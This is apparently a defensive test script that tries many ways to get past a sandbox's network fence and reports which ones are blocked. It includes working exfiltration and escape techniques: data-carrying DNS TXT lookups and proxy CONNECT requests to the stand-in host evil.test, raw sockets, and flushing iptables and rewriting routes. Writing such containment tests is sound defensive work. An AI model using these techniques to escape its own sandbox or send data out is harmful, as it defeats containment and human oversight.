# Run as root inside a fenced sandbox (python3 - OUTSIDE HOST PROXY HOST_PORT < bypass.py): tries
# every way out the fence must close and prints one line per attempt, "blocked NAME" or
# "LEAKED NAME: what came back", then "tried N blocked M". OUTSIDE is the stand-in internet
# (fake_internet_up: every service there answers "outside says hi"); HOST the host's address as
# the sandbox sees it, where HOST_PORT is a service of the host's that answers the same; PROXY
# ss-net's proxy (ADDR:PORT); evil.test is not allowed. The caller also checks that nothing
# arrived outside (datagrams, lookups). What it changes in the sandbox's network it puts back.
#
# It changes the network of the machine it runs on (addresses, routes, firewall): it refuses to
# run anywhere but in a sandbox or a network namespace of a test's own.
import os
import socket
import ssl
import struct
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor

if not os.path.exists("/var/lib/ss/provisioned") and not subprocess.run(
        ["ip", "netns", "identify", str(os.getpid())], capture_output=True, text=True).stdout.strip():
    sys.exit("bypass.py: not in a sandbox or a network namespace of a test's own; refusing")

OUTSIDE, GATEWAY = sys.argv[1], sys.argv[2]
PROXY_HOST, PROXY_PORT = sys.argv[3].rsplit(":", 1)[0], int(sys.argv[3].rsplit(":", 1)[1])
HOST_PORT = int(sys.argv[4])
# The sandbox's link: its interface with a global IPv4 address.
_addr = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True,
                       text=True).stdout.split()
LINK, MINE = _addr[1], _addr[3]
undo = []
MARK = b"outside says hi"
attempts = []


def attempt(name, changes_network=False):
    """Declares an attempt. Those that leave the sandbox's network as it is run at once, side by
    side (where the fence drops rather than refuses, each waits out its timeout); those that change
    it (changes_network) run after them, one at a time."""
    def wrap(fn):
        attempts.append((name, fn, changes_network))
        return fn
    return wrap


def run(name, fn):
    try:
        got = fn()
    except FileNotFoundError as e:  # a missing tool must not pass for a blocked attempt
        return f"MISSING {name}: {e}"
    except OSError:  # refused, reset, unreachable, timed out: blocked
        got = None
    if got and MARK in got:
        return f"LEAKED {name}: {got[:80]!r}"
    return f"blocked {name}"


def tcp(host, port, payload, family=socket.AF_INET, source=None, timeout=5):
    s = socket.socket(family, socket.SOCK_STREAM)
    s.settimeout(timeout)
    if source:
        s.bind((source, 0))
    s.connect((host, port))
    s.sendall(payload)
    data = b""
    while True:
        chunk = s.recv(65536)
        if not chunk:
            break
        data += chunk
    s.close()
    return data


def get(host_header):
    return f"GET / HTTP/1.1\r\nHost: {host_header}\r\nConnection: close\r\n\r\n".encode()


def dns_query(name, qtype):
    q = struct.pack("!HHHHHH", 7, 0x0100, 1, 0, 0, 0)
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\0" + struct.pack("!HH", qtype, 1)


@attempt("TCP to another port of an outside address")
def _():
    return tcp(OUTSIDE, 8080, get(OUTSIDE))


@attempt("HTTP on port 80 to an outside address by IP")
def _():
    return tcp(OUTSIDE, 80, get(OUTSIDE))


@attempt("HTTP on port 80 with a disallowed Host")
def _():
    return tcp(OUTSIDE, 80, get("evil.test"))


@attempt("TLS on port 443 without SNI")
def _():
    ctx = ssl.create_default_context()
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    with socket.create_connection((OUTSIDE, 443), timeout=5) as raw:
        with ctx.wrap_socket(raw) as s:
            s.sendall(get(OUTSIDE))
            data = b""
            while chunk := s.recv(65536):
                data += chunk
            return data


@attempt("DNS-over-TLS (TCP 853)")
def _():
    return tcp(OUTSIDE, 853, b"\0\x1d" + dns_query("evil.test", 1))


@attempt("QUIC (UDP 443)")
def _():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(3)
    u.sendto(b"\xc0" + os.urandom(1200), (OUTSIDE, 443))
    return u.recv(2048)


@attempt("UDP to an outside port")
def _():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(3)
    for _ in range(3):
        u.sendto(b"exfiltrated", (OUTSIDE, 9999))
    return u.recv(2048)


@attempt("a lookup of a disallowed name over UDP, to an outside resolver")
def _():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(dns_query("evil.test", 1), (OUTSIDE, 53))
    reply = u.recv(512)
    return MARK if reply[3] & 15 == 0 and struct.unpack("!H", reply[6:8])[0] > 0 else None


@attempt("a TXT lookup carrying data, to an outside resolver")
def _():
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.settimeout(5)
    u.sendto(dns_query("c2VjcmV0.evil.test", 16), (OUTSIDE, 53))
    reply = u.recv(512)
    return MARK if reply[3] & 15 == 0 and struct.unpack("!H", reply[6:8])[0] > 0 else None


@attempt("a lookup of a disallowed name over TCP, to an outside resolver")
def _():
    q = dns_query("evil.test", 1)
    reply = tcp(OUTSIDE, 53, struct.pack("!H", len(q)) + q)
    return MARK if len(reply) > 5 and reply[5] & 15 == 0 else None


@attempt("ICMP echo")
def _():
    r = subprocess.run(["ping", "-c", "1", "-W", "2", OUTSIDE], capture_output=True)
    return MARK if r.returncode == 0 else None


@attempt("a raw IP socket (hand-made ICMP)")
def _():
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    s.settimeout(3)
    body = struct.pack("!BBHHH", 8, 0, 0, 1, 1) + b"raw"
    csum = 0
    for i in range(0, len(body) - 1, 2):
        csum += (body[i] << 8) + body[i + 1]
    csum += body[-1] << 8 if len(body) % 2 else 0
    csum = (csum >> 16) + (csum & 0xFFFF)
    csum = ~(csum + (csum >> 16)) & 0xFFFF
    s.sendto(body[:2] + struct.pack("!H", csum) + body[4:], (OUTSIDE, 0))
    while True:
        data, peer = s.recvfrom(2048)
        if peer[0] == OUTSIDE and data[20] == 0:
            return MARK


@attempt("IPv6 to an outside address", changes_network=True)
def _():
    subprocess.run(["ip", "-6", "addr", "add", "2001:db8:5::2/64", "dev", LINK],
                   capture_output=True)
    subprocess.run(["ip", "-6", "route", "add", "default", "dev", LINK], capture_output=True)
    undo.append(["ip", "-6", "route", "del", "default", "dev", LINK])
    undo.append(["ip", "-6", "addr", "del", "2001:db8:5::2/64", "dev", LINK])
    return tcp("2001:db8::2", 8080, get("x"), family=socket.AF_INET6, timeout=3)


@attempt("a service of the host's, on the gateway's address")
def _():
    return tcp(GATEWAY, HOST_PORT, b"hello\n", timeout=3)


@attempt("the proxy, CONNECT to a disallowed name")
def _():
    return tcp(PROXY_HOST, PROXY_PORT, b"CONNECT evil.test:80 HTTP/1.1\r\nHost: evil.test:80\r\n\r\n"
               + get("evil.test"))


@attempt("the proxy, CONNECT to an outside address")
def _():
    return tcp(PROXY_HOST, PROXY_PORT,
               f"CONNECT {OUTSIDE}:8080 HTTP/1.1\r\nHost: {OUTSIDE}:8080\r\n\r\n".encode()
               + get(OUTSIDE))


@attempt("the proxy, to a service on the host's loopback")
def _():
    return tcp(PROXY_HOST, PROXY_PORT,
               f"GET http://127.0.0.1:{HOST_PORT}/ HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n".encode())


@attempt("another address of its own, then TCP to another port", changes_network=True)
def _():
    base, prefix = MINE.split("/")
    other = ".".join(base.split(".")[:3] + ["250"])
    subprocess.run(["ip", "addr", "add", f"{other}/{prefix}", "dev", LINK], capture_output=True)
    undo.append(["ip", "addr", "del", f"{other}/{prefix}", "dev", LINK])
    return tcp(OUTSIDE, 8080, get(OUTSIDE), source=other, timeout=3)


@attempt("its own firewall dropped and routes changed, then TCP to another port", changes_network=True)
def _():
    subprocess.run(["iptables", "-P", "OUTPUT", "ACCEPT"], capture_output=True)
    subprocess.run(["iptables", "-F"], capture_output=True)
    subprocess.run(["ip", "route", "replace", f"{OUTSIDE}/32", "dev", LINK], capture_output=True)
    undo.append(["ip", "route", "del", f"{OUTSIDE}/32", "dev", LINK])
    return tcp(OUTSIDE, 8080, get(OUTSIDE), timeout=3)


side_by_side = [(n, f) for n, f, changes in attempts if not changes]
with ThreadPoolExecutor(len(side_by_side)) as pool:
    futures = {n: pool.submit(run, n, f) for n, f in side_by_side}
results = {n: fut.result() for n, fut in futures.items()}
for name, fn, changes in attempts:
    if changes:
        results[name] = run(name, fn)
for command in reversed(undo):
    subprocess.run(command, capture_output=True)
missing = [r for r in results.values() if r.startswith("MISSING")]
if missing:
    sys.exit("bypass.py: " + "; ".join(missing))
for name, _, _ in attempts:
    print(results[name])
print(f"tried {len(results)} blocked {sum(r.startswith('blocked') for r in results.values())}")
